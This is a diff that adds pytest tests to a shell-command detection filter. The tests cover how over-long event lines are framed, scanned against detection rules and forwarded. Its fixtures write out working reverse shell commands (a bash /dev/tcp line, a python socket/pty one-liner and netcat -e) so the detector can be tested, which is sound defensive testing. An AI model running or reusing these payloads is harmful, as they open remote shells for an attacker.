@@ -7,17 +7,22 @@ time. The timed bounds (2x input at most 2.5x time, under 50 ms per MiB per even
 
 from __future__ import annotations
 
+import io
 import shlex
 import sys
 from collections.abc import Callable
 from typing import Any
 
+import msgspec
 import pytest
 
 from shellsieve.compile.ruleset import Ruleset
 from shellsieve.events.argv import split_posix, split_windows
+from shellsieve.run.framing import Framer
+from shellsieve.run.loop import run_filter
 from shellsieve.run.match import BlockMatcher
 from shellsieve.run.stats import Stats
+from shellsieve.settings import Settings
 
 
 def _lines_run(fn: Callable[[], Any]) -> int:
@@ -118,3 +123,91 @@ class TestMatchExplosion:
         assert out == reference
         assert b'"kind":"alert"' in out[1]
         assert out[0] + b"\n" == short and out[2] + b"\n" == short
+
+
+class _Log:
+    """Collects the structured log events run_filter emits (stderr in production)."""
+
+    def __init__(self) -> None:
+        self.events: list[tuple[str, dict[str, Any]]] = []
+
+    def info(self, event: str, **kw: Any) -> None:
+        self.events.append((event, kw))
+
+    warning = info
+
+
+_SHELL = (b'{"process":{"name":"bash","command_line":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1","args":["bash","-i"],'
+          b'"parent":{"name":"nginx"}},"event":{"category":["process"],"type":["start"]},'
+          b'"host":{"os":{"type":"linux"}},"padding":"')
+
+
+def _padded(size: int) -> bytes:
+    return _SHELL + b"x" * (size - len(_SHELL) - 3) + b'"}\n'
+
+
+def _run(ruleset: Ruleset, data: bytes, max_line: int, read_bytes: int) -> tuple[bytes, Any]:
+    out = io.BytesIO()
+    stats = run_filter(ruleset, Settings(max_line_bytes=max_line, read_bytes=read_bytes, stats_interval_s=0),
+                       io.BytesIO(data), out, _Log())
+    return out.getvalue(), stats
+
+
+class TestOverLongLines:
+    def test_cap_applies_to_a_line_that_arrives_in_one_read(self) -> None:
+        """A line over the cap inside one read is passed, not scanned whole, and counted once."""
+        f = Framer(10)
+        out = f.feed(b"ok\n" + b"x" * 15 + b"\nnext\n")
+        assert out == [(b"ok\n", True), (b"x" * 15 + b"\n", False), (b"next\n", True)]
+        assert f.too_long == 1
+
+    def test_cap_applies_to_a_line_finished_by_a_later_read(self) -> None:
+        """A tail under the cap completed past it by the next read is over-long too, counted once."""
+        f = Framer(10)
+        out = f.feed(b"ok\n" + b"x" * 8) + f.feed(b"y" * 8 + b"\nnext\n")
+        assert out == [(b"ok\n", True), (b"x" * 8 + b"y" * 8 + b"\n", False), (b"next\n", True)]
+        assert f.too_long == 1
+
+    @pytest.mark.parametrize("read_bytes", [1 << 16, 1 << 23])
+    @pytest.mark.parametrize("size", [1_100_000, 3_000_000])
+    def test_padded_reverse_shell_is_scanned_and_forwarded(self, shipped: Ruleset, size: int,
+                                                           read_bytes: int) -> None:
+        """A reverse shell padded past the cap (1.1 MB or 3 MB, in 64 KiB reads or one read) is
+        handled the same way: forwarded byte for byte but for our report of the candidate rules
+        inside the object, counted once as line_too_long, its bytes in bytes_in."""
+        line = _padded(size)
+        short = b'{"process":{"name":"ls"}}\n'
+        out, stats = _run(shipped, short + line + short, 1 << 20, read_bytes)
+        lines = out.split(b"\n")
+        assert len(lines) == 4 and lines[0] + b"\n" == short and lines[2] + b"\n" == short
+        long_out = lines[1]
+        cut = long_out.index(b',"shellsieve":')
+        assert long_out[:cut] + b"}\n" == line  # the input up to its closing brace, unchanged
+        doc = msgspec.json.decode(long_out)
+        report = doc["shellsieve"]["line_too_long"]
+        assert report["bytes"] == len(line) - 1
+        assert report["candidates"]
+        assert stats.malformed["line_too_long"] == 1
+        assert stats.bytes_in == len(short + line + short)
+        assert stats.lines_in == stats.lines_out == 3
+
+    def test_anchor_cut_between_reads_is_found(self, shipped: Ruleset) -> None:
+        """An anchor that straddles two pieces of an over-long line is still seen (windows overlap).
+        Cap 100,000, reads of 65,536: the line passes the cap at its second read, so its first
+        piece ends at byte 131,072, inside `socket.socket`."""
+        shell = (b'","process":{"command_line":"python -c \'import socket,os,pty;s=socket.socket();'
+                 b's.connect((\\"10.0.0.1\\",4444));os.dup2(s.fileno(),0);pty.spawn(\\"sh\\")\'"}, "p":"')
+        pad = 131_072 - 5 - len(b'{"padding":"') - shell.index(b"socket.socket")
+        line = b'{"padding":"' + b"x" * pad + shell + b"y" * 200_000 + b'"}\n'
+        assert line.index(b"socket.socket") == 131_067
+        out, stats = _run(shipped, line, 100_000, 1 << 16)
+        assert out.count(b"\n") == 1
+        candidates = msgspec.json.decode(out)["shellsieve"]["line_too_long"]["candidates"]
+        assert "100620" in [c["id"] for c in candidates]  # Wazuh's python pty reverse shell
+
+    def test_over_long_text_line_is_forwarded_as_it_came(self, shipped: Ruleset) -> None:
+        """A text line over the cap cannot carry a report: it leaves exactly as it came, counted."""
+        line = b"nc -e /bin/sh 10.0.0.1 4444 " + b"a" * 1_100_000 + b"\n"
+        out, stats = _run(shipped, line, 1 << 20, 1 << 16)
+        assert out == line
+        assert stats.malformed["line_too_long"] == 1 and stats.bytes_in == len(line)
